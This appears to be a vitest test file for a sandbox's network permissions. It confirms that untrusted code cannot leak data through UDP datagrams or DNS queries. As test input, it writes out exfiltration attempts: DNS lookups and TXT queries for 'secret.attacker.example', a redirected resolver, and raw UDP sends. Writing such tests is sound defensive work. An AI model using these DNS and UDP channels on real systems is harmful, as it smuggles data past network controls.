import { createSocket, type Socket } from 'node:dgram';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll } from 'vitest';
import { escapeTest } from '../support/escape.ts';

let server: Socket;
let port = 0;
let packets = 0;

beforeAll(async () => {
  server = createSocket('udp4', () => (packets += 1));
  await new Promise<void>((resolve) => server.bind(0, '127.0.0.1', resolve));
  ({ port } = server.address());
});
afterAll(() => server.close());

escapeTest('data leaves neither in datagrams nor in questions to name servers', {
  permissions: { network: ['granted.example'] },
  relay: { resolveHost: () => Promise.resolve([{ address: '203.0.113.1', family: 4 }]) },
  attempts: () => `
    import dgram from 'node:dgram';
    import dns from 'node:dns';
    export const attempts = {
      control: () => (dns.ADDRCONFIG > 0 ? 'works' : ''),
      socket: () => dgram.createSocket('udp4'),
      class: () => new Promise((resolve, reject) => new dgram.Socket('udp4').send('x', ${port}, '127.0.0.1', (error) => error ? reject(error) : resolve('sent'))),
      bind: () => new dgram.Socket('udp4').bind(0),
      lookup: () => dns.promises.lookup('secret.attacker.example'),
      callback: () => new Promise((resolve, reject) => dns.lookup('secret.attacker.example', (error, address) => error ? reject(error) : resolve(address))),
      resolve: () => dns.promises.resolve('secret.attacker.example', 'TXT'),
      resolveGranted: () => dns.promises.resolve4('granted.example'),
      resolver: async () => {
        const resolver = new dns.promises.Resolver({ timeout: 200, tries: 1 });
        resolver.setServers(['127.0.0.1:${port}']);
        return resolver.resolve4('secret.attacker.example');
      },
      reverse: () => dns.promises.reverse('127.0.0.1'),
      service: () => dns.promises.lookupService('127.0.0.1', 22),
      servers: () => dns.setServers(['127.0.0.1:${port}']),
    };`,
  async observe() {
    await sleep(200); // nothing to wait for: a packet that is not sent makes no event
    return packets;
  },
  observed: 0,
});
